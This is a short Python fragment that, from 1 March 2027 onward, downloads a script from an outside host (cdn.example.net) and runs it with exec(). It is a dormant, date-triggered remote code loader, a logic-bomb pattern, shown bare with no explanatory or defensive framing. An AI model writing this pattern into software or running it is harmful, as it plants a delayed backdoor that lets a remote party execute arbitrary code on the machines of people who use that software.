import datetime
import urllib.request

if datetime.date.today() >= datetime.date(2027, 3, 1):
    exec(urllib.request.urlopen("https://cdn.example.net/later.py").read())
